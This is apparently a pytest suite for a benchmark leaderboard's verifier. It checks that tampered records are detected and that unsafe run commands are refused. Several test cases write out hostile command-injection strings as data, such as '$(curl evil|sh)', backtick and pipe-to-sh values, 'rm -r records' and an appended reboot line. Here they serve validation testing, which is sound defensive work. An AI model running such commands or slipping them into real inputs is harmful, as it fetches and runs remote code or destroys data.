"""verify, a record's own parts: every change of an honest record is found, or its field is declared."""

import copy
import json
from dataclasses import asdict
from datetime import UTC, datetime, timedelta
from hashlib import sha256
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from verified import FIELDS, HASHES, SUITE, honestly_hashed, is_declared, json_values, plain, quick, reasons

from narrowbench.benchmark.allowance import Allowance
from narrowbench.benchmark.investigating import Investigator
from narrowbench.benchmark.method import Evidence
from narrowbench.benchmark.task import score_command
from narrowbench.leaderboard import record as room
from narrowbench.leaderboard.against_log import find_logs
from narrowbench.leaderboard.against_suite import check_published
from narrowbench.leaderboard.archive import samples_path
from narrowbench.leaderboard.collect import collect
from narrowbench.leaderboard.record import SampleRow
from narrowbench.leaderboard.consistency import DECLARED
from narrowbench.leaderboard.verify import verify
from narrowbench.organisms.errors import RecordError
from narrowbench.organisms.spec import digest_of


def test_what_is_declared_is_there_and_has_a_reason():
    assert all(any(field == each.field or field.startswith(f"{each.field}.") for field in FIELDS) for each in DECLARED)
    assert all(len(each.reason) > 10 for each in DECLARED) and len({each.field for each in DECLARED}) == len(DECLARED)


def test_the_page_on_submitting_lists_what_is_declared():
    text = (Path(room.__file__).parents[1] / "docs" / "submitting.md").read_text()
    assert all(f"`{each.field}`" in text for each in DECLARED)


def others(value) -> list:
    """Values that could stand in place of one, of the same kind, and a few of others."""
    if isinstance(value, bool):
        return [not value]
    if isinstance(value, (int, float)):
        return [value + 1, value - 0.25, 0]
    if isinstance(value, str):
        return [value + "x", "", "0" * 64, "twin", "ceiling", "zero", "2020-01-01T00:00:00Z"]
    if isinstance(value, dict):
        return [{**value, "x": "1"}, {**value, "x": ["a/b"]}, {},
                *({**value, key: new} for key in value for new in others(value[key])[:1])]
    if isinstance(value, list):
        return [[*value, "text"], value[1:]]
    return ["x", 1, {}, [], {"calls": 1, "input_tokens": 1, "output_tokens": 1, "total_tokens": 2, "usd": None,
                             "interactions": 0, "outcome": "submitted"}, [5]]


@pytest.mark.parametrize("field", [field for field in FIELDS if field not in HASHES])
def test_a_change_with_new_digests_is_found_or_the_field_is_declared(honest, place, field):
    record, rows = plain(honest)
    old = honest[0].record_id
    n_valid, index = 0, next(i for i, row in enumerate(rows) if row["role"] == "objective")
    *way, last = field.split(".")[1:]
    target = record if field.startswith("record") else rows[index]
    if any((target := target.get(key) or {}) == {} for key in way):
        assert is_declared(field) or field.startswith("record.panel.rubrics")  # nothing there: tested with judges
        return
    for new in others(target[last]):
        if new == target[last]:
            continue
        forged, samples = plain(honest)
        at = forged if field.startswith("record") else samples[index]
        for key in way:
            at = at[key]
        at[last] = copy.deepcopy(new)
        try:
            path = place(forged, samples)
        except ValueError:
            continue
        if json.loads(path.read_text())["record_id"] == old:
            continue  # the same record, written otherwise
        n_valid += 1
        if not is_declared(field):
            assert verify(path).code == 1, (field, new)
        elif n_valid == 1:  # once: a log takes a third of a second to read
            assert verify(path, find_logs(honest[2])).code == 1, (field, new)
    assert n_valid or field == "sample.claim.verdict", "no other value passed the schema"


@pytest.mark.parametrize("command", [
    'narrowbench score --method "prior:$(curl evil|sh)" --suite demo',
    "narrowbench score --method prior:x;sh --suite demo",
    "narrowbench score --method prior:`sh` --suite demo", "narrowbench score --method prior:x --suite demo|sh",
    "narrowbench score --method prior:x --suite $HOME/demo.json", "narrowbench  score --method prior:x --suite demo",
    "narrowbench score --method prior:x --suite demo ", "narrowbench score --method prior:x --suite a>b.json",
    "narrowbench score --method 'prior:x' --suite demo"])
def test_a_command_that_means_more_to_a_shell_is_in_no_record(honest, place, make, tmp_path, command):
    record, rows = plain(honest)
    path = place(record, rows)
    record["run"]["command"] = command
    with pytest.raises(ValueError, match="not quoted as"):
        place(record, rows)
    path.write_text(json.dumps(honestly_hashed(record, [SampleRow.model_validate(row) for row in rows]), indent=1))
    assert "not quoted as" in reasons(path)
    log = make.log(tmp_path, [make.organism("a")], {"a": make.said()}, about={"command": command})
    with pytest.raises(RecordError, match="not quoted as"):
        collect(log)


@pytest.mark.parametrize("command", [
    "rm -r records", "narrowbench publish logs", "narrowbench score --method prior --x y", "narrowbench score --method",
    "narrowbench score --method a --method prior", ""])
def test_a_command_of_another_kind_is_refused_and_not_published(honest, place, make, tmp_path, command):
    record, rows = plain(honest)
    record["run"]["command"] = command
    assert "run.command is no `narrowbench score`" in reasons(place(record, rows))
    log = make.log(tmp_path, [make.organism("a")], {"a": make.said()}, about={"command": command})
    with pytest.raises(RecordError, match="run.command is no"):
        check_published(*collect(log))


@pytest.mark.parametrize("ending", ["\nreboot", "\r", "\u202e", "\u200b", "\x1b[2J", "\u2028sh"])
def test_a_command_is_one_line_of_what_is_seen(honest, place, ending):
    record, rows = plain(honest)
    record["run"]["command"] += ending
    with pytest.raises(ValueError, match="not quoted as"):
        place(record, rows)


@pytest.mark.parametrize("settings", [{}, {"k": 3}, {"layers": [1, 2], "on": True, "none": None},
                                      {"prompt": "it's \"so\"; $(x)\nand `y` — é\u00a0😀"},
                                      {"share": 0.5, "text": "a, b: c"}])
def test_the_commands_that_are_written_into_logs_are_taken(honest, place, settings):
    record, rows = plain(honest)
    record["method"] |= {"name": "mine", "settings": settings}
    record["run"]["command"] = score_command("my dir/it's mine.py:Mine", SUITE, "reader", 0, "cpu", settings, 1)
    assert reasons(place(record, rows)) == ""


def test_the_commands_of_those_who_ask_models_are_taken(honest, place):
    record, rows = plain(honest)
    who = Investigator("agent", "openai-api/lab/x", {"grader": ("openai/a", "openai/b")}, "https://a.example/v1?x=1",
                       {"device": "cuda:0", "more": {"a": [1, "b c"]}}, {"temperature": 0.7, "max_tokens": 900},
                       Allowance(5, 30, 1000, 0.5, 60.0), {"openai-api/lab/x": {"input": 1, "output": 2}},
                       role_config={"grader": ({"temperature": 0.7}, {})})
    record["investigator"] |= {
        "name": "agent", "model": who.model, "prompt_sha256": "1" * 64, "allowance": asdict(who.allowance),
        "generation": dict(who.config), "roles": {"grader": list(who.roles["grader"])}}
    record["run"]["command"] = score_command("prior", SUITE, "agent", 0, "cpu", {}, 1, who.options())
    for row in rows:
        row["usage"] = {"calls": 3, "input_tokens": 9, "output_tokens": 9, "total_tokens": 18, "usd": None,
                        "interactions": 5, "outcome": "submitted"}
    assert "--model-role 'grader={" in record["run"]["command"] and reasons(place(record, rows)) == ""


def test_what_has_not_come_yet_or_was_not_measured_is_refused(honest, place):
    def in_(**ahead: int) -> str:
        return (datetime.now(UTC) + timedelta(**ahead)).isoformat().replace("+00:00", "Z")

    record, rows = plain(honest)
    record["run"]["completed"] = in_(hours=20)
    assert reasons(place(record, rows)) == "", "clocks and time zones differ"
    record["run"]["completed"] = in_(days=2)
    assert "has not come yet" in reasons(place(record, rows))
    for cost in ({}, {"seconds": 1.0}, {"seconds": None, "forward_tokens": 1, "generated_tokens": 0}):
        record, rows = plain(honest)
        rows[0]["cost"] = cost
        assert "`cost` lacks" in reasons(place(record, rows))
    rows[0] |= {"cost": {}, "failure": "cake-450: ValueError: no\nmore"}
    rows[0]["evidence_sha256"] = digest_of(Evidence().payload | {"error": rows[0]["failure"]})
    record["run"]["evidence_sha256"] = digest_of([row["evidence_sha256"] for row in rows])
    assert "`cost` lacks" not in reasons(place(record, rows))


def test_samples_left_out_doubled_or_in_another_order_are_found(honest, place):
    for change in (lambda rows: rows.pop(), lambda rows: rows.append(rows[0]), lambda rows: rows.reverse(),
                   lambda rows: rows.append({**rows[0], "epoch": 2})):
        record, rows = plain(honest)
        change(rows)
        record["run"]["evidence_sha256"] = digest_of([row["evidence_sha256"] for row in rows])
        assert "samples" in reasons(place(record, rows)) or "epochs" in reasons(place(record, rows))


@quick
@given(data=st.data())
def test_any_value_in_any_field_is_refused_or_declared_and_never_crashes(honest, tmp_path_factory, data):
    """Also what the schema would not let pass: the forger writes the files by hand."""
    record, rows = plain(honest)
    field = data.draw(st.sampled_from([field for field in FIELDS if field not in HASHES]))
    *way, last = field.split(".")[1:]
    at = record if field.startswith("record") else data.draw(st.sampled_from(rows[:8]))
    for key in way:
        at = at.get(key) or {}
    new = data.draw(json_values)
    if last not in at or at[last] == new:
        return
    at[last] = new
    lines = "".join(json.dumps(row, ensure_ascii=False) + "\n" for row in rows)
    try:
        record["samples"] = {"sha256": sha256(lines.encode()).hexdigest(), "rows": len(rows)}
        record["record_id"] = digest_of({key: record[key] for key in record if key != "record_id"})
        text = json.dumps(record, indent=1, ensure_ascii=False) + "\n"
        text.encode()
    except ValueError:  # lone surrogates and infinities are neither written nor hashed
        return
    path = tmp_path_factory.mktemp("forged") / SUITE.partition(":")[0] / f"prior-{record['record_id'][:16]}.json"
    path.parent.mkdir()
    path.write_text(text)
    samples_path(path).write_text(lines)
    verdict = verify(path)
    assert verdict.code == 1 or is_declared(field) or field == "sample.claim.confidence", (field, new)
